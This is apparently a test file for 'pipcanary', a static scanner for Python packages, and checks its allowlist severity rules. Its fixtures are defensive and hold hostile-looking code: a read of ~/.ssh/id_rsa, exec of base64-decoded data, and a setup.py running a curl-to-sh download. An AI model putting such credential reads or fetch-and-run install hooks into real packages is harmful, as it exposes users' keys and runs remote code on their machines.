import { beforeAll, describe, expect, test } from "bun:test";
import type { Artifact } from "../../src/core/artifact.ts";
import type { StaticResult } from "../../src/static/index.ts";
import { applyAllowlist, makeAllowlistPolicy } from "../../src/static/policy.ts";
import { useTempDirs } from "../harness/temp.ts";
import { scan, sdistArtifact, summary, wheelArtifact } from "./helpers.ts";

describe("allowlist policy", () => {
  const policy = makeAllowlistPolicy(["My_Tool"]);

  test("credential rules drop one level for credential-handling packages", () => {
    expect(applyAllowlist("block", "credential", "Paramiko", policy).severity).toBe("warn");
    expect(applyAllowlist("warn", "credential", "keyrings.alt", policy).severity).toBe("info");
  });

  test("other rules are not lowered by the built-in list", () => {
    expect(applyAllowlist("block", "user", "boto3", policy).severity).toBe("block");
  });

  test("the user's list lowers user and credential rules by exactly one level, by normalised name", () => {
    expect(applyAllowlist("block", "user", "my-tool", policy)).toEqual({ severity: "warn", lowered: "my-tool is on your static allowlist" });
    expect(applyAllowlist("block", "credential", "my.tool", policy).severity).toBe("warn");
  });

  test("never-lower rules keep their severity whatever the lists say", () => {
    expect(applyAllowlist("block", "never", "my-tool", policy)).toEqual({ severity: "block", lowered: undefined });
    expect(applyAllowlist("block", "never", "paramiko", policy).severity).toBe("block");
  });
});

describe("allowlist in a scan", () => {
  const tempDir = useTempDirs("pipcanary-static-policy");
  const readsKey = { "x/__init__.py": "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n" };
  let result: StaticResult;
  let paramiko: Artifact;
  let stranger: Artifact;
  let userListed: Artifact;
  let decoded: Artifact;
  let boto3Setup: Artifact;

  beforeAll(async () => {
    const dir = tempDir();
    paramiko = wheelArtifact(dir, { name: "paramiko", version: "3.4.0", files: readsKey });
    stranger = wheelArtifact(dir, { name: "sshhelper", version: "1.0", files: readsKey });
    userListed = sdistArtifact(dir, { name: "mytool", version: "1.0", setupPy: "import os\nos.system('make')\nfrom setuptools import setup\nsetup()\n", files: {} });
    decoded = wheelArtifact(dir, { name: "mytool2", version: "1.0", files: { "m/__init__.py": "import base64\nexec(base64.b64decode('cGFzcw=='))\n" } });
    boto3Setup = sdistArtifact(dir, { name: "boto3", version: "9.9", setupPy: "import os\nos.system('curl -s http://127.0.0.1:9 | sh')\nfrom setuptools import setup\nsetup()\n", files: {} });
    result = await scan([paramiko, stranger, userListed, decoded, boto3Setup], { allowlist: ["mytool", "mytool2"] });
  }, 120_000);

  const findings = (artifact: Artifact) => summary(result.artifacts.get(artifact.sha256)?.findings ?? []);

  test("paramiko reading ~/.ssh/id_rsa is a warning, explained; an unknown package is blocked", () => {
    expect(findings(paramiko)).toEqual(["static.credentials.read warn"]);
    expect(result.artifacts.get(paramiko.sha256)?.findings[0]?.explanation).toContain("Lowered from block to warn: paramiko handles credentials by design");
    expect(findings(stranger)).toEqual(["static.credentials.read block"]);
  });

  test("a user-allowlisted package's shell in setup.py becomes a warning", () => {
    expect(findings(userListed)).toEqual(["static.install.shell warn"]);
  });

  test("exec of decoded data stays blocking even for a user-allowlisted package", () => {
    expect(findings(decoded)).toEqual(["static.exec.decoded block"]);
  });

  test("being on the credential list does not excuse a shell in setup.py", () => {
    expect(findings(boto3Setup)).toEqual(["static.install.shell block"]);
  });
});
